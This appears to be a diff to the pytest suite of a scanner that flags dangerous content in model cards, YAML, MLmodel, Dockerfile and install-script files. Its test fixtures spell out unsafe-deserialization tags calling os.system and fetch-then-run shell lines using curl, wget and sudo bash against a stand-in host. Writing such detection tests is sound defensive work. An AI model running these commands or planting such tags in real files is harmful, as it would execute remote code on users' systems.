@@ -395,8 +395,8 @@ def told(data: str | bytes, path: str = "config.yaml") -> list[tuple[str, Severi
 
 
 @pytest.mark.parametrize("name", DANGEROUS_SETTINGS)
-def test_settings_that_name_a_dangerous_callable_are_high(name: str) -> None:
-    assert told(DANGEROUS_SETTINGS[name]) == [("code-dangerous-call", Severity.HIGH)]
+def test_settings_that_name_a_dangerous_callable_are_critical(name: str) -> None:
+    assert told(DANGEROUS_SETTINGS[name]) == [("code-dangerous-call", Severity.CRITICAL)]
 
 
 HONEST_SETTINGS = {
@@ -422,7 +422,9 @@ def test_settings_that_name_an_unknown_package_are_low(settings: str) -> None:
 
 
 def test_a_target_in_json_is_judged_as_in_yaml() -> None:
-    assert told('{"model": {"_target_": "os.sys' + 'tem"}}', "config.json") == [("code-dangerous-call", Severity.HIGH)]
+    assert told('{"model": {"_target_": "os.sys' + 'tem"}}', "config.json") == [
+        ("code-dangerous-call", Severity.CRITICAL)
+    ]
 
 
 @pytest.mark.parametrize("broken", ["a: [1", "a: \t- b: }", "a: 'x", "a: \x01", "%TAG !\n---\n"])
@@ -511,3 +513,75 @@ def test_an_honest_script_is_left_alone(line: str) -> None:
 def test_hostile_scripts_take_no_more_than_their_share_of_time() -> None:
     for word in ("curl ", "curl|", "sudo -x ", "sh -c ", "a=b ", "iex ", "ncat ", "base64 -d ", "pip install ", "\\\n"):
         scan_memory(plugin, {"a.sh": (word * (1_000_000 // len(word))).encode()})
+
+
+FURTHER = {
+    "an unknown class": ("x: !!python/object/apply:foo.Bar [1]", Severity.MEDIUM),
+    "a Ruby object": ("x: !ruby/object:Gem::Installer {i: x}", Severity.HIGH),
+    "a Java object": ("x: !!javax.script.ScriptEngineManager [a]", Severity.HIGH),
+    "a JavaScript function": ("x: !!js/function 'function(){}'", Severity.HIGH),
+    "code for an evaluator": ('x: "__imp' + "ort__('os').getcwd()\"", Severity.MEDIUM),
+    "a step of a pipeline": ("jobs:\n  a:\n    steps:\n    - run: curl https://a.invalid/x | sh", Severity.MEDIUM),
+}
+
+
+@pytest.mark.parametrize("name", FURTHER)
+def test_settings_that_other_loaders_run_are_told(name: str) -> None:
+    source, severity = FURTHER[name]
+    assert told(source) == [("code-dangerous-call", severity)]
+
+
+def test_the_front_matter_of_a_card_is_yaml_too() -> None:
+    card = b"---\nlicense: !!python/object/apply:os.sys" + b"tem [id]\n---\n# Model\n"
+    (found,) = [item for item in scan_memory(plugin, {"README.md": card}).seen if isinstance(item, Finding)]
+    assert (found.severity, found.location) == (Severity.CRITICAL, "line 2")
+
+
+TWO_STEPS = {
+    "curl": "curl -fsSLo x.sh https://a.invalid/x\nbash x.sh",
+    "curl by its name": "curl -O https://a.invalid/x.sh\nchmod +x x.sh\n./x.sh",
+    "curl into": "curl https://a.invalid/x > /tmp/i.sh && sh /tmp/i.sh",
+    "wget": "wget -q https://a.invalid/get.py?v=1\npython3 get.py",
+    "wget as": "wget -O i.sh https://a.invalid/x; sudo bash i.sh",
+}
+
+
+@pytest.mark.parametrize("name", TWO_STEPS)
+def test_what_is_fetched_and_then_run_is_told(name: str) -> None:
+    assert told(TWO_STEPS[name], "install.sh") == [("code-dangerous-call", Severity.MEDIUM)]
+
+
+def test_a_dockerfile_that_adds_and_runs_is_told() -> None:
+    source = "FROM x\nADD https://a.invalid/i.sh /i.sh\nRUN sh /i.sh\n"
+    assert told(source, "Dockerfile") == [("code-dangerous-call", Severity.MEDIUM)]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "curl -o data.zip https://a.invalid/d.zip\nunzip data.zip",
+        "sh build.sh",
+        "curl -O https://a.invalid/a.py\nsh b.sh",
+    ],
+)
+def test_what_is_fetched_and_not_run_is_nothing(source: str) -> None:
+    assert told(source, "install.sh") == []
+
+
+def test_a_flavour_of_mlflow_loads_what_it_documents() -> None:
+    own = "flavors:\n  python_function: {loader_module: mlflow.sklearn, model_path: model.pkl, env: conda.yaml}"
+    assert told(own, "MLmodel") == []
+
+
+def test_a_flavour_with_code_of_its_own_is_remote_code() -> None:
+    other = "flavors:\n  python_function: {loader_module: mine, code: code, data: ../../etc}"
+    assert told(other, "MLmodel") == [
+        ("remote-code", Severity.HIGH),
+        ("remote-code", Severity.MEDIUM),
+        ("remote-code", Severity.MEDIUM),
+    ]
+
+
+@pytest.mark.usefixtures("must_end")
+def test_a_script_of_nothing_but_fetches_ends() -> None:
+    assert told("wget https://a.invalid/x " * 40_000, "install.sh") == []
